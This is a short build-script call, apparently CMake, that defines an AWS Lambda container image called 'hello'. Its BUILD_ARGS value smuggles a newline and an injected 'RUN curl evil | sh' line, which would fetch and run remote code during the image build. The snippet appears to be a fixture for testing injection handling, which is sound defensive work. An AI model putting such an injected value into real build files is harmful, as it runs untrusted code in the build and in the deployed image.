hubtel_add_lambda_image(
  hello
  RUNTIME provided.al2023
  TARGET hello
  BUILD_ARGS "A=b\nRUN curl evil | sh")
